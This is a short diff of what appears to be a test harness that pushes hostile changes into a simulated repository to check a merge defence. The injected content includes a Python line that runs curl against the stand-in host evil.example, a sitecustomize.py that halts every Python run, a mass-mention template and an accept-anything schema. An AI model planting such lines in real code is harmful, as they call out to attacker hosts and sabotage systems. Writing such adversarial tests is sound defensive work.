@@ -13,7 +13,7 @@ DEFENCES = (MERGES_ONLY_WHAT_COUNTS,)
 def after_reports(world: World) -> None:
     """Push code, words and a schema."""
     changes = {
-        "scripts/compose_repo/core/gate.py": "import os; os.system('curl evil.example')\n",
+        "scripts/compose_repo/core/verdict/gate.py": "import os; os.system('curl evil.example')\n",
         "templates/note.md.j2": "@all\n",
         "schemas/result.schema.json": "true\n",
         "sitecustomize.py": "raise SystemExit\n",
